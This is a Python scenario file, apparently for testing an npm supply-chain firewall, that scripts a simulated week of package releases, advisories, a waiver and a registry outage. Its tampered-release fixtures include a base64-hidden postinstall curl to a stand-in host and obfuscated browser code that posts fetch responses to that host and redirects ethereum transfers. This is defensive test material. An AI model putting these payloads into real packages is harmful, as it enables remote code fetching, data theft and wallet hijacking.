"""What happens in the week: releases, people, advisories and a failing registry, each at its hour."""

import json
from collections.abc import Callable, Mapping
from datetime import UTC, datetime, timedelta

from msgspec import Struct

from evals.week.street import Registry

MONDAY = datetime(2026, 3, 2, tzinfo=UTC)
DEPENDENCIES = {
    "paper-http": "^1.13.0",
    "paper-http-legacy": "npm:paper-http@^0.30.0",
    "colour-term": "^5.6.0",
    "date-kit": "^2.8.0",
    "native-scan": "^1.3.0",
    "left-join": "^1.1.0",
    "tiny-log": "^1.0.0",
}
PROJECTS = ("paper-http", "colour-term", "date-kit", "native-scan", "left-join", "tiny-log")
TAMPERED = frozenset((("paper-http", "1.14.2"), ("paper-http", "0.30.4"), ("colour-term", "5.6.2")))
"""Releases that nobody must ever get. The other bytes of tiny-log 1.0.1 are known by a line in them."""

MARK = "SWAPPED"
WAIVER = "read setup.js: it only builds our own addon"


_BOT = """
Seven simulated days. A bot runs npm update every six hours, scripts off, through the firewall in enforce mode with
a cooldown of two days; once a day, and when something has happened, a build installs from the lockfile (npm ci).
"""
_MADE_UP = """
The releases are made up, and the tampered ones inert. Every reason is the one that the firewall gives: from its
ledger, or as npm printed it. What stands in brackets is the verdict id.
"""
INTRODUCTION = (" ".join(_BOT.split()), "", " ".join(_MADE_UP.split()))


class Event(Struct, frozen=True):
    """Something that happens: when, in a word, to what, in a sentence, and what does it."""

    at: datetime
    kind: str
    subject: str
    text: str
    act: Callable[[], None]


class Stage(Struct, frozen=True):
    """What events act on: the registry, the feed of advisories, whoever waives a release, and whoever builds."""

    registry: Registry
    advise: Callable[[tuple[Mapping[str, object], ...]], None]
    waive: Callable[[str, str], None]
    build: Callable[[str], None]


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """Return an instant of the week; day 0 is Monday."""
    return MONDAY + timedelta(days=day, hours=hour, minutes=minute)


def before(registry: Registry) -> None:
    """Publish what has been public for months."""
    for name, version, months, tag in (
        ("paper-http", "0.30.1", 5, "legacy"),
        ("paper-http", "0.30.2", 2, "legacy"),
        ("paper-http", "1.13.9", 4, "latest"),
        ("paper-http", "1.14.0", 2, "latest"),
        ("colour-term", "5.5.9", 4, "latest"),
        ("colour-term", "5.6.0", 2, "latest"),
        ("date-kit", "2.7.4", 40, "latest"),
        ("date-kit", "2.8.0", 36, "latest"),
        ("native-scan", "1.2.8", 4, "latest"),
        ("native-scan", "1.3.0", 2, "latest"),
        ("left-join", "1.0.9", 4, "latest"),
        ("left-join", "1.1.0", 2, "latest"),
        ("tiny-log", "0.9.9", 4, "latest"),
        ("tiny-log", "1.0.0", 2, "latest"),
    ):
        registry.publish(name, version, _plain(name, version), MONDAY - timedelta(days=30 * months + 5), tag=tag)


def events(stage: Stage) -> list[Event]:
    """Return everything that happens, in order."""

    def release(
        when: datetime, name: str, version: str, text: str, more: Mapping[str, str] | None = None, **manifest: object
    ) -> Event:
        tag = str(manifest.pop("tag", "latest"))
        files = {**_plain(name, version), **(more or {})}
        by = str(manifest.pop("by", "maintainer"))
        act = lambda: stage.registry.publish(name, version, files, when, tag=tag, by=by, **manifest)  # noqa: E731
        return Event(when, "published", f"{name} {version}", text, act)

    hook = {"postinstall": "node setup.js"}
    found = [
        release(at(0, 4, 10), "paper-http", "1.14.1", "an ordinary update"),
        release(at(0, 16, 30), "left-join", "1.2.0", "an ordinary update"),
        release(at(1, 3, 20), "paper-http", "0.30.3", "an ordinary update of the old line", tag="legacy"),
        release(at(1, 9, 45), "tiny-log", "1.0.1", "an ordinary update"),
        release(
            at(1, 11, 0),
            "colour-term",
            "5.6.1",
            "an ordinary update, by someone who never published it before",
            by="newcomer",
        ),
        release(
            at(2, 9, 0),
            "paper-http",
            "1.14.2",
            "tampered: a script that runs at installation starts a hidden command",
            {"setup.js": _HIDDEN},
            scripts=hook,
        ),
        release(
            at(2, 9, 40),
            "paper-http",
            "0.30.4",
            "tampered: the same, forty minutes later, on the old line",
            {"setup.js": _HIDDEN},
            scripts=hook,
            tag="legacy",
        ),
        release(
            at(2, 13, 15),
            "native-scan",
            "1.4.0",
            "honest, but now it builds an addon with a script at installation",
            {"setup.js": _BUILD},
            scripts=hook,
        ),
        Event(
            at(3, 7),
            "advisory",
            "date-kit",
            "GHSA-week-0000-0001: every version before 2.8.1 is vulnerable",
            lambda: stage.advise((_VULNERABLE,)),
        ),
        release(at(3, 8, 30), "date-kit", "2.8.1", "fixes the advisory, after three years of silence"),
        Event(
            at(4, 9, 30),
            "person",
            "native-scan 1.4.0",
            f"ada has read the evidence, and waives it: {WAIVER}",
            lambda: stage.waive("native-scan", "1.4.0"),
        ),
        release(at(4, 10, 20), "paper-http", "1.14.3", "an honest release again"),
        Event(
            at(4, 15, 10),
            "advisory",
            "left-join",
            "MAL-2026-0001 reports malware in 1.2.0, which was allowed on Monday",
            lambda: stage.advise((_VULNERABLE, _MALWARE)),
        ),
        Event(at(4, 15, 30), "build", "npm ci", "", lambda: stage.build("a build from the lockfile of that noon")),
        release(
            at(5, 7, 30),
            "tiny-log",
            "1.0.1",
            "the registry gives other bytes under the same version",
            {"index.js": f"// {MARK}\n" + _plain("tiny-log", "1.0.1")["index.js"]},
        ),
        release(
            at(5, 15, 0),
            "colour-term",
            "5.6.2",
            "tampered: hidden code takes hold of the browser's wallet and fetch",
            {"index.js": _plain("colour-term", "5.6.2")["index.js"] + _WALLET},
        ),
        Event(at(6, 2), "outage", "the registry", "it answers nothing but errors", lambda: _down(stage, down=True)),
        Event(at(6, 7, 30), "build", "npm ci", "", lambda: stage.build("a build while nobody can ask the registry")),
        Event(at(6, 10), "outage", "the registry", "it is back", lambda: _down(stage, down=False)),
        release(at(6, 14, 0), "left-join", "1.2.1", "an honest release again"),
    ]
    return sorted(found, key=lambda event: event.at)


def _down(stage: Stage, *, down: bool) -> None:
    stage.registry.down = down


def _plain(name: str, version: str) -> dict[str, str]:
    index = f"""'use strict';

/** {name}: {version}. */
function parts(text) {{
  return String(text).split('/').filter(Boolean);
}}

function joined(list, sign) {{
  return list.map(String).join(sign || '/');
}}

module.exports = {{ parts, joined, version: '{version}' }};
"""
    return {"index.js": index, "README.md": f"# {name}\n\nVersion {version}.\n"}


_BUILD = """'use strict';

const { spawnSync } = require('child_process');

const done = spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' });
process.exit(done.status);
"""
_HIDDEN = "require('child_process').exec(atob('Y3VybCBodHRwczovL2Ryb3AuZXhhbXBsZS5pbnZhbGlkL3g='));\n"
_WALLET = """
const _0x1f = ['ZXRoZXJldW0=', 'aHR0cHM6Ly9kcm9wLmV4YW1wbGUuaW52YWxpZC93'];
const _0x2e = (n) => atob(_0x1f[n]);
if (typeof window !== 'undefined' && window[_0x2e(0)]) {
  const real = window.fetch;
  window.fetch = async (...a) => {
    const r = await real(...a);
    real(_0x2e(1), { method: 'POST', body: await r.clone().text() });
    return r;
  };
  window.ethereum.request = async (call) => {
    call.params[0].to = '0x0000000000000000000000000000000000000000';
    return call;
  };
}
"""
_VULNERABLE: Mapping[str, object] = {
    "id": "GHSA-week-0000-0001",
    "modified": "2026-03-05T07:00:00Z",
    "summary": "date-kit hangs on a long text",
    "affected": [
        {
            "package": {"ecosystem": "npm", "name": "date-kit"},
            "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "2.8.1"}]}],
        }
    ],
}
_MALWARE: Mapping[str, object] = {
    "id": "MAL-2026-0001",
    "modified": "2026-03-06T15:00:00Z",
    "summary": "left-join 1.2.0 waits for a date and then deletes files",
    "affected": [{"package": {"ecosystem": "npm", "name": "left-join"}, "versions": ["1.2.0"]}],
}


def feed(records: tuple[Mapping[str, object], ...]) -> str:
    """Return a feed in the form of OSV; it never is empty."""
    other = {"package": {"ecosystem": "npm", "name": "something-else"}, "versions": ["9.9.9"]}
    first = {"id": "MAL-2025-0001", "modified": "2025-01-01T00:00:00Z", "affected": [other]}
    return json.dumps([first, *records])
